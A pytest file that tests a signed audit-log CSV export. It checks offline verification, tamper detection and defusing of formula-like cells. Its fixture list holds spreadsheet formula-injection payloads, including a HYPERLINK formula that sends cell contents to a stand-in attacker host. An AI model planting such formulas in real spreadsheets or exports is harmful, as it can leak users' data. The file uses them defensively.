"""The CSV form of an export: readable, safe to open in a spreadsheet, and verified offline like the JSONL."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from server.audit.canonical import AuditEvent, encode_event
from server.audit.chain import ChainRow
from server.audit.checkpoint import Checkpoint, key_id
from server.audit.export import CSV_COLUMNS, SignedCheckpoint, build_export, csv_cell, csv_rows, verify_export
from server.audit.merkle import MerkleTree, leaf_hash

CREATED = "2026-11-23T10:00:00.000000Z"
MakeEvent = Callable[..., AuditEvent]
Seal = Callable[..., list[ChainRow]]
HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR",
           "multi\nline \"quoted\", text"]


def _export(rows: list[ChainRow], key: Ed25519PrivateKey) -> list[str]:
    tree = MerkleTree(leaf_hash(row[1]) for row in rows)
    checkpoint = Checkpoint(len(rows), tree.root(), CREATED, key_id(key.public_key()))
    return list(build_export(rows, tree, [SignedCheckpoint(checkpoint, checkpoint.sign(key))],
                             selection={"customer_id": "c-1"}, created=CREATED, signing_key=key))


@pytest.fixture(name="exported")
def fx_exported(make_event: MakeEvent, seal: Seal, signing_key: Ed25519PrivateKey) -> tuple[list[str], str]:
    events = [make_event(1), *(make_event(seq, reason=text, actor_name=text) for seq, text in enumerate(HOSTILE, 2))]
    lines = _export(seal([encode_event(event) for event in events]), signing_key)
    return lines, "".join(csv_rows(lines))


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_csv_verifies_offline_like_the_jsonl(exported: tuple[list[str], str], signing_key: Ed25519PrivateKey,
                                             tmp_path: Path) -> None:
    lines, text = exported
    rows = _cells(text)
    assert rows[0] == list(CSV_COLUMNS)
    assert [row[0] for row in rows[1:]] == ["header", "checkpoint", *["event"] * 8, "trailer"]
    assert [row[-1] + "\n" for row in rows[1:]] == lines  # the JSONL, line for line
    path = tmp_path / "export.csv"
    path.write_bytes(text.encode("utf-8"))
    report = verify_export(path, signing_key.public_key())
    assert report.ok, report.detail
    assert report.events_checked == 8
    assert verify_export(text.splitlines(keepends=True), signing_key.public_key()).ok


def test_cells_a_spreadsheet_would_run_are_text(exported: tuple[list[str], str]) -> None:
    rows = _cells(exported[1])
    events = [dict(zip(CSV_COLUMNS, row, strict=True)) for row in rows if row[0] == "event"]
    assert events[0]["actor_roles"] == "sales_rep" and events[0]["fields"] == "email phone"
    for event, text in zip(events[1:], HOSTILE, strict=True):
        for column in ("reason", "actor_name"):
            if text[0] in "=+-@\t\r":
                assert event[column] == "'" + text
            else:
                assert event[column] == text
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert csv_cell("-1") == "'-1" and csv_cell("a=b") == "a=b" and csv_cell("") == ""


def _rewrite(text: str, row_index: int, column: str, value: str) -> str:
    rows = _cells(text)
    rows[row_index][CSV_COLUMNS.index(column)] = value
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows(rows)
    return buffer.getvalue()


def test_an_edited_readable_cell_is_caught(exported: tuple[list[str], str], signing_key: Ed25519PrivateKey) -> None:
    text = exported[1]
    first_event = next(i for i, row in enumerate(_cells(text)) if row[0] == "event")
    for column, value in (("actor_name", "someone else"), ("outcome", "denied"), ("hash", "0" * 64),
                          ("before", "{}")):
        report = verify_export(_rewrite(text, first_event, column, value).splitlines(keepends=True),
                               signing_key.public_key())
        assert (report.ok, report.problem, report.first_bad_seq) == (False, "altered", 1), (column, report.detail)
    checkpoint_row = next(i for i, row in enumerate(_cells(text)) if row[0] == "checkpoint")
    report = verify_export(_rewrite(text, checkpoint_row, "seq", "7").splitlines(keepends=True),
                           signing_key.public_key())
    assert (report.ok, report.problem) == (False, "altered")


def test_an_edited_line_or_a_removed_row_is_caught(exported: tuple[list[str], str],
                                                   signing_key: Ed25519PrivateKey) -> None:
    text = exported[1]
    rows = _cells(text)
    event = next(i for i, row in enumerate(rows) if row[0] == "event")
    edited = _rewrite(text, event, "line", rows[event][-1].replace('"leaf_index":0', '"leaf_index":1'))
    assert not verify_export(edited.splitlines(keepends=True), signing_key.public_key()).ok
    without_row = "".join(line for index, line in enumerate(text.splitlines(keepends=True)) if index != event)
    assert not verify_export(without_row.splitlines(keepends=True), signing_key.public_key()).ok
    bad_header = text.replace("type,seq", "type,sequence", 1)
    assert not verify_export(bad_header.splitlines(keepends=True), signing_key.public_key()).ok
    short = _rewrite(text, event, "line", "")
    assert not verify_export(short.splitlines(keepends=True), signing_key.public_key()).ok
